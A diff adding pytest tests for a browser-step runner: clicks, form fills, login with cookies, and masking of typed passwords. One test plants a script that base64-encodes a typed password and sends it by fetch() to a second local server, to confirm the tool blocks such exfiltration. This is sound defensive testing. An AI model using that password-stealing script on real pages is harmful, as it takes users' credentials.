@@ -1,0 +1,166 @@
+"""Steps in the browser: what they reach, what they may not, and how they fail."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from tests.browsers import Rendering, need_chromium
+from tests.fakes import Page, Seen, WebServer, Wire, response
+from tidings.fetching.browser.steps import Typed
+from tidings.fetching.browser.visit import treatment
+from tidings.model.observed.outcome import Failed, Fetched, PlayedStep
+from tidings.model.secret import Secret
+
+HTML = {"Content-Type": "text/html; charset=utf-8"}
+PASSWORD = "k3ttle & spoon"
+FORM = """<!doctype html><title>Log in</title><form method=post action=/in>
+<input id=user name=user><input id=pw type=password name=pw><button>Go</button></form>"""
+SHOP = """<!doctype html><title>Shop</title><button id=more>More</button><select id=size><option>Small<option>Large</select>
+<ul id=list><li>one</ul><p hidden id=no>hidden</p><script>
+more.onclick = () => setTimeout(() => list.insertAdjacentHTML("beforeend", "<li class=new>two</li>"), 50);
+size.onchange = () => list.insertAdjacentHTML("beforeend", `<li>${size.value}</li>`);
+document.onkeydown = (event) => { document.title = event.key; };
+</script>"""
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Rendering]:
+    need_chromium()
+    rendering = Rendering()
+    yield rendering
+    rendering.close()
+
+
+@pytest.fixture
+def server() -> Iterator[WebServer]:
+    with WebServer() as running:
+        yield running
+
+
+def played(verb: Any, place: str = "", value: str | Secret = "") -> PlayedStep:
+    shown = "secret" if isinstance(value, Secret) else value
+    return PlayedStep(f"{verb} {place} {shown}".strip(), verb, place, value)
+
+
+def test_steps_are_done_in_their_order_and_the_page_is_read_after_them(chromium, server):
+    """What a click adds, a choice and a key are in what is watched."""
+    server.pages["/"] = Page(SHOP.encode(), HTML)
+
+    seen = chromium.render(
+        server.url("/"),
+        steps=(
+            played("click", "text=more"),
+            played("wait", "css=.new"),
+            played("select", "css=#size", "Large"),
+            played("press", "", "Tab"),
+            played("scroll"),
+        ),
+    )
+
+    assert isinstance(seen, Fetched), seen
+    assert '<li>one</li><li class="new">two</li><li>Large</li>' in seen.body.decode().replace("\n", "")
+
+
+@pytest.mark.parametrize(
+    ("place", "why"),
+    [("css=#gone", "nothing on the page is at that place"), ("css=#no", "one thing is there, but is hidden")],
+)
+def test_a_step_that_cannot_be_done_is_named_with_what_the_page_says(chromium, server, monkeypatch, place, why):
+    """Nothing is compared then: half a page is no page."""
+    monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
+    server.pages["/"] = Page(SHOP.encode(), HTML)
+
+    seen = chromium.render(server.url("/"), steps=(played("press", "", "Tab"), played("click", place)))
+
+    assert isinstance(seen, Failed)
+    assert f"step 2 of 2, click {place}: {why}" in seen.reason
+    assert "The page “Tab” says: More" in seen.reason
+    assert "request" == seen.kind
+
+
+def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium, server):
+    """A form is sent, its redirect followed, its cookie sent along; the password stands in no other request."""
+
+    def enter(seen: Seen, wire: Wire) -> None:
+        head = {"Location": "/mine", "Set-Cookie": "sid=1; Path=/; HttpOnly"}
+        wire.send(response(Page(b"", head, status=303), seen))
+
+    def mine(seen: Seen, wire: Wire) -> None:
+        is_in = "sid=1" in seen.headers.get("cookie", "")
+        text = f"<title>Mine</title><p>{'Orders: 3' if is_in else 'stranger'}<p>not {PASSWORD}<a href=next>next</a>"
+        wire.send(response(Page(text.replace("&", "&amp;").encode(), HTML), seen))
+
+    server.pages |= {"/": Page(FORM.encode(), HTML), "/in": enter, "/mine": mine}
+
+    seen = chromium.render(
+        server.url("/"),
+        steps=(
+            played("fill", "css=#user", "anna"),
+            played("fill", "css=#pw", Secret(PASSWORD)),
+            played("press", "css=#pw", "Enter"),
+            played("wait", "text=Orders"),
+        ),
+    )
+
+    assert isinstance(seen, Fetched), seen
+    assert "Orders: 3" in seen.body.decode()
+    assert "not ***" in seen.body.decode()
+    assert server.url("/mine") == seen.final_url
+    assert ["GET /", "POST /in", "GET /mine"] == [f"{asked.method} {asked.path}" for asked in server.seen]
+    assert ["/in"] == [asked.path for asked in server.seen if b"k3ttle" in asked.body or "k3ttle" in asked.target]
+
+
+def test_after_a_secret_was_typed_nobody_else_is_asked(chromium):
+    """A script of a stranger cannot carry it off, not in a request, not in a form, not in an address of the page itself."""
+    with WebServer() as home, WebServer() as stranger:
+        script = f"""<script>pw.oninput = () => fetch("{stranger.url("/taken")}?" + btoa(pw.value), {{mode: "no-cors"}});</script>"""
+        elsewhere = FORM.replace("/in", stranger.url("/in"))
+        by_address = FORM.replace("method=post", "method=get")
+        home.pages |= {
+            "/": Page((FORM + script).encode(), HTML),
+            "/elsewhere": Page(elsewhere.encode(), HTML),
+            "/get": Page(by_address.encode(), HTML),
+        }
+        stranger.pages |= {"/taken": Page(b"ok"), "/in": Page(b"ok", HTML)}
+        steps = (played("fill", "css=#pw", Secret(PASSWORD)), played("press", "css=#pw", "Enter"))
+        # another port of this machine is another origin
+        quiet = chromium.render(home.url("/"), steps=steps[:1])
+        form = chromium.render(home.url("/elsewhere"), steps=steps)
+        written = chromium.render(home.url("/get"), steps=steps)
+
+        assert isinstance(quiet, Fetched), quiet
+        assert isinstance(form, Failed)
+        assert "step 2 of 2, press css=#pw Enter: after a secret was typed only" in form.reason
+        assert isinstance(written, Failed)
+        assert "writes the typed secret into an address" in written.reason
+        assert [] == stranger.seen
+        assert [] == [asked.target for asked in home.seen if "k3ttle" in asked.target]
+
+
+@pytest.mark.parametrize(
+    ("method", "steps", "expected"),
+    [
+        ("GET", False, "move"),
+        ("POST", False, "refuse"),
+        ("GET", True, "follow"),
+        ("POST", True, "follow"),
+        ("PUT", True, "refuse"),
+    ],
+)
+def test_only_steps_lead_a_page_through_a_form(method, steps, expected):
+    """A script alone sends a page on by GET, and nothing else."""
+    assert expected == treatment("document", method, is_page=True, pictures=False, steps=steps)
+
+
+def test_what_was_typed_is_masked_in_each_of_its_forms():
+    """As it is, as HTML has it, as addresses have it; what is too short would be found in any text."""
+    typed = Typed()
+    typed.add(Secret(PASSWORD))
+    typed.add(Secret("abc"))
+
+    assert "a *** b *** c *** abc" == typed.masked(f"a {PASSWORD} b k3ttle &amp; spoon c k3ttle+%26+spoon abc")
+    assert typed.is_in("https://x.example/?q=k3ttle%20%26%20spoon")
+    assert not typed.is_in("https://x.example/?q=abc")
